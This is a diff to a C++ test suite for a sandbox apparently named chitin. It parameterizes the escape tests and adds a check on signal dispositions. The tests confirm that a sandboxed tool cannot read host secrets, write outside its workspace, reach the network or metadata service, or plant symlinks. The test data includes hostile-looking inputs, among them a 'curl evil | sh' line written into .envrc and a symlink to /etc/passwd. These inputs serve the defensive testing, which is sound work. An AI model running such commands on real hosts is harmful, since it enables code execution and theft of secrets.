@@ -31,7 +31,7 @@ using chitin::testing::write_text;
 class EscapeTest : public SandboxTest {};
 
 // 1. Host secrets: ~/.ssh, the gateway token, /etc/shadow.
-TEST_F(EscapeTest, HostSecretsAreNotReachable) {
+TEST_P(EscapeTest, HostSecretsAreNotReachable) {
   ASSERT_EQ(::mkdir(dir_.file("home").c_str(), 0700), 0);
   ASSERT_EQ(::mkdir(dir_.file("home/.ssh").c_str(), 0700), 0);
   // A marker made at run time, so that no file (not even this test's binary) contains it.
@@ -49,7 +49,7 @@ TEST_F(EscapeTest, HostSecretsAreNotReachable) {
 }
 
 // 2. Writes outside the workspace (persistence).
-TEST_F(EscapeTest, NothingOutsideTheWorkspaceIsWritable) {
+TEST_P(EscapeTest, NothingOutsideTheWorkspaceIsWritable) {
   EXPECT_EQ(probe({"write", "/etc/evil"}), "EROFS");
   EXPECT_EQ(probe({"write", "/usr/bin/evil"}), "EROFS");
   EXPECT_EQ(probe({"write", "/evil"}), "EROFS");
@@ -61,7 +61,7 @@ TEST_F(EscapeTest, NothingOutsideTheWorkspaceIsWritable) {
 }
 
 // 3. Poisoning the workspace for later host execution.
-TEST_F(EscapeTest, ProtectedWorkspacePathsAreReadOnlyAndCannotBeRenamedAway) {
+TEST_P(EscapeTest, ProtectedWorkspacePathsAreReadOnlyAndCannotBeRenamedAway) {
   ASSERT_EQ(::mkdir((workspace() + "/.git").c_str(), 0755), 0);
   ASSERT_EQ(::mkdir((workspace() + "/.git/hooks").c_str(), 0755), 0);
   write_text(workspace() + "/.git/config", "[core]\n");
@@ -80,7 +80,7 @@ TEST_F(EscapeTest, ProtectedWorkspacePathsAreReadOnlyAndCannotBeRenamedAway) {
   EXPECT_FALSE(sys::status_of(workspace() + "/.git/hooks/pre-commit").has_value());
 }
 
-TEST_F(EscapeTest, ProtectedPathsCreatedByTheToolAreQuarantined) {
+TEST_P(EscapeTest, ProtectedPathsCreatedByTheToolAreQuarantined) {
   Outcome outcome = run(policy({"/bin/sh", "-c",
                                 "echo 'curl evil | sh' > /workspace/.envrc && "
                                 "mkdir -p /workspace/.git/hooks && echo x > /workspace/ok"}));
@@ -95,7 +95,7 @@ TEST_F(EscapeTest, ProtectedPathsCreatedByTheToolAreQuarantined) {
   EXPECT_NE(outcome.err.find("protected path '.git'"), std::string::npos) << outcome.err;
 }
 
-TEST_F(EscapeTest, AFileCanBeGivenReadOnly) {
+TEST_P(EscapeTest, AFileCanBeGivenReadOnly) {
   write_text(dir_.file("input.txt"), "data\n");
   SandboxPolicy p = policy({"/bin/cat", dir_.file("input.txt")});
   p.read_only.push_back(dir_.file("input.txt"));
@@ -104,7 +104,7 @@ TEST_F(EscapeTest, AFileCanBeGivenReadOnly) {
   EXPECT_EQ(outcome.out, "data\n");
 }
 
-TEST_F(EscapeTest, APlantedSymlinkAtAProtectedPathRefusesTheRun) {
+TEST_P(EscapeTest, APlantedSymlinkAtAProtectedPathRefusesTheRun) {
   ASSERT_EQ(::symlink(dir_.file("elsewhere").c_str(), (workspace() + "/.envrc").c_str()), 0);
   Outcome outcome = run(policy({"/bin/true"}));
   EXPECT_EQ(outcome.code, kExitSetupFailed);
@@ -113,7 +113,7 @@ TEST_F(EscapeTest, APlantedSymlinkAtAProtectedPathRefusesTheRun) {
 }
 
 // 4. The gateway and other loopback services.
-TEST_F(EscapeTest, HostLoopbackServicesAreUnreachable) {
+TEST_P(EscapeTest, HostLoopbackServicesAreUnreachable) {
   UniqueFd listener(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
   sockaddr_in address{};
   address.sin_family = AF_INET;
@@ -128,7 +128,7 @@ TEST_F(EscapeTest, HostLoopbackServicesAreUnreachable) {
 }
 
 // 5. Direct egress, DNS, metadata service.
-TEST_F(EscapeTest, NoDirectEgress) {
+TEST_P(EscapeTest, NoDirectEgress) {
   EXPECT_EQ(probe({"connect", "1.1.1.1", "443"}), "EACCES");
   EXPECT_EQ(probe({"connect", "169.254.169.254", "80"}), "EACCES");
   EXPECT_EQ(probe({"udp", "8.8.8.8", "53"}), "ENETUNREACH");
@@ -137,7 +137,7 @@ TEST_F(EscapeTest, NoDirectEgress) {
 }
 
 // 6. Host IPC: abstract UNIX sockets (X11, D-Bus, agents).
-TEST_F(EscapeTest, HostAbstractSocketsAreUnreachable) {
+TEST_P(EscapeTest, HostAbstractSocketsAreUnreachable) {
   UniqueFd listener(::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0));
   const std::string name = "chitin-escape-test-" + std::to_string(::getpid());
   sockaddr_un address{};
@@ -150,34 +150,34 @@ TEST_F(EscapeTest, HostAbstractSocketsAreUnreachable) {
 }
 
 // 7. ptrace and signals to host processes.
-TEST_F(EscapeTest, HostProcessesCannotBeTracedOrSignalled) {
+TEST_P(EscapeTest, HostProcessesCannotBeTracedOrSignalled) {
   EXPECT_EQ(probe({"ptrace-init"}), "EPERM");
   EXPECT_EQ(probe({"kill", std::to_string(::getpid())}), "ESRCH");
 }
 
 // 8. Mount and namespace re-entry.
-TEST_F(EscapeTest, NoNamespaceOrMountGames) {
+TEST_P(EscapeTest, NoNamespaceOrMountGames) {
   EXPECT_EQ(probe({"unshare-user"}), "EPERM");
   EXPECT_EQ(probe({"unshare-mount"}), "EPERM");
   EXPECT_EQ(probe({"mount"}), "EPERM");
 }
 
 // 9. Kernel attack surface.
-TEST_F(EscapeTest, KernelAttackSurfaceIsClosed) {
+TEST_P(EscapeTest, KernelAttackSurfaceIsClosed) {
   for (const char* call : {"keyctl", "bpf", "io_uring", "userfaultfd", "perf"}) {
     EXPECT_EQ(probe({call}), "EPERM") << call;
   }
 }
 
 // 10. /proc/1/exe and /proc/self/exe.
-TEST_F(EscapeTest, InitAndSelfExecutablesAreNotUsable) {
+TEST_P(EscapeTest, InitAndSelfExecutablesAreNotUsable) {
   EXPECT_EQ(probe({"read", "/proc/1/exe"}), "EACCES");
   // The tool's own binary sits on a read-only mount.
   EXPECT_EQ(probe({"write", "/proc/self/exe"}), "EROFS");
 }
 
 // 11. Leaked file descriptors.
-TEST_F(EscapeTest, OnlyStdioFdsReachTheTool) {
+TEST_P(EscapeTest, OnlyStdioFdsReachTheTool) {
   // A descriptor this process leaks on purpose (no O_CLOEXEC) onto the host directory.
   const int leaked = ::open(dir_.path().c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
   ASSERT_GE(leaked, 0);
@@ -188,7 +188,7 @@ TEST_F(EscapeTest, OnlyStdioFdsReachTheTool) {
 }
 
 // 12. Host-side symlink following when the runtime collects results.
-TEST_F(EscapeTest, PlantedSymlinksAreNeverFollowedByTheHostReader) {
+TEST_P(EscapeTest, PlantedSymlinksAreNeverFollowedByTheHostReader) {
   Outcome plant = run(policy({"/bin/ln", "-s", "/etc/passwd", "/workspace/report.txt"}));
   ASSERT_EQ(plant.code, 0) << plant.err;
   UniqueFd root = *sys::open_file(workspace(), O_RDONLY | O_DIRECTORY);
@@ -198,10 +198,10 @@ TEST_F(EscapeTest, PlantedSymlinksAreNeverFollowedByTheHostReader) {
 }
 
 // 13. Terminal injection.
-TEST_F(EscapeTest, TiocstiIsRefused) { EXPECT_EQ(probe({"tiocsti"}), "EPERM"); }
+TEST_P(EscapeTest, TiocstiIsRefused) { EXPECT_EQ(probe({"tiocsti"}), "EPERM"); }
 
 // 14. setuid gain.
-TEST_F(EscapeTest, NoNewPrivilegesAndNosuid) {
+TEST_P(EscapeTest, NoNewPrivilegesAndNosuid) {
   Outcome status = run(policy({"/bin/grep", "-E", "^(NoNewPrivs|CapBnd)", "/proc/self/status"}));
   EXPECT_NE(status.out.find("NoNewPrivs:\t1"), std::string::npos) << status.out;
   EXPECT_NE(status.out.find("CapBnd:\t0000000000000000"), std::string::npos) << status.out;
@@ -210,7 +210,7 @@ TEST_F(EscapeTest, NoNewPrivilegesAndNosuid) {
 }
 
 // 16. Exhaustion: processes, memory, disk, time.
-TEST_F(EscapeTest, ResourceLimitsHold) {
+TEST_P(EscapeTest, ResourceLimitsHold) {
   SandboxPolicy limited = policy({});
   limited.pids_max = 20;
   limited.memory_mb = 256;
@@ -228,13 +228,13 @@ TEST_F(EscapeTest, ResourceLimitsHold) {
 }
 
 // 17. /proc and /sys leaks.
-TEST_F(EscapeTest, SysIsAbsentAndKernelKnobsAreNotWritable) {
+TEST_P(EscapeTest, SysIsAbsentAndKernelKnobsAreNotWritable) {
   EXPECT_EQ(probe({"read", "/sys/kernel/notes"}), "ENOENT");
   EXPECT_EQ(probe({"write", "/proc/sys/kernel/core_pattern"}), "EACCES");
 }
 
 // 18. Secrets in environment variables.
-TEST_F(EscapeTest, TheCallersEnvironmentDoesNotLeakIn) {
+TEST_P(EscapeTest, TheCallersEnvironmentDoesNotLeakIn) {
   ::setenv("CHITIN_TEST_SECRET_TOKEN", "sk-should-not-leak", 1);
   EXPECT_EQ(probe({"env", "CHITIN_TEST_SECRET_TOKEN"}), "UNSET");
   EXPECT_EQ(probe({"env", "HOME"}), "/home/sandbox");
@@ -242,7 +242,7 @@ TEST_F(EscapeTest, TheCallersEnvironmentDoesNotLeakIn) {
 }
 
 // Positive: real work succeeds.
-TEST_F(EscapeTest, CompilingAndRunningAProgramWorks) {
+TEST_P(EscapeTest, CompilingAndRunningAProgramWorks) {
   write_text(workspace() + "/main.c",
              "#include <stdio.h>\nint main(void){puts(\"built\");return 42;}\n");
   Outcome outcome =
@@ -252,7 +252,7 @@ TEST_F(EscapeTest, CompilingAndRunningAProgramWorks) {
   EXPECT_TRUE(sys::status_of(workspace() + "/main").has_value());
 }
 
-TEST_F(EscapeTest, MissingCommandsAndSetupFailuresUseTheDocumentedExitCodes) {
+TEST_P(EscapeTest, MissingCommandsAndSetupFailuresUseTheDocumentedExitCodes) {
   Outcome missing = run(policy({"no-such-command"}));
   EXPECT_EQ(missing.code, 127);
   EXPECT_NE(missing.err.find("cannot run 'no-such-command'"), std::string::npos) << missing.err;
@@ -266,7 +266,7 @@ TEST_F(EscapeTest, MissingCommandsAndSetupFailuresUseTheDocumentedExitCodes) {
 }
 
 // 4/5 through the proxy: an allow-listed host is reachable, nothing else is.
-TEST_F(EscapeTest, EgressGoesOnlyThroughTheProxyToAllowedHosts) {
+TEST_P(EscapeTest, EgressGoesOnlyThroughTheProxyToAllowedHosts) {
   chitin::testing::LoopbackHttpServer server("allowed");
   const std::string port = std::to_string(server.port());
   auto log = audit_.open();
@@ -293,7 +293,15 @@ TEST_F(EscapeTest, EgressGoesOnlyThroughTheProxyToAllowedHosts) {
   EXPECT_NE(trail.find("\"type\":\"egress.deny\""), std::string::npos);
 }
 
-TEST_F(EscapeTest, BelowTierT1NothingRuns) {
+TEST_P(EscapeTest, TheToolStartsWithDefaultSignalDispositions) {
+  // Ignored signals and the signal mask survive execve. The warm helper ignores SIGCHLD, and
+  // glibc's posix_spawn turns libc's internal signals (32, 33) into SIG_IGN in the helper.
+  const Outcome outcome = run(policy({"grep", "-E", "^Sig(Ign|Blk)", "/proc/self/status"}));
+  EXPECT_EQ(outcome.code, 0) << outcome.err;
+  EXPECT_EQ(outcome.out, "SigBlk:\t0000000000000000\nSigIgn:\t0000000000000000\n");
+}
+
+TEST_P(EscapeTest, BelowTierT1NothingRuns) {
   // Force the tier check to fail: demand a Landlock ABI no kernel offers yet.
   SandboxPolicy p = policy({"/bin/sh", "-c", "echo ran > /workspace/ran"});
   p.min_landlock_abi = 999;
@@ -304,6 +312,8 @@ TEST_F(EscapeTest, BelowTierT1NothingRuns) {
   EXPECT_NE(outcome.err.find("the command was not run"), std::string::npos);
   EXPECT_FALSE(sys::status_of(workspace() + "/ran").has_value());
 }
+
+INSTANTIATE_TEST_SUITE_P(Helpers, EscapeTest, ::testing::Bool(), helper_kind);
 
 }  // namespace
 }  // namespace chitin::sandbox
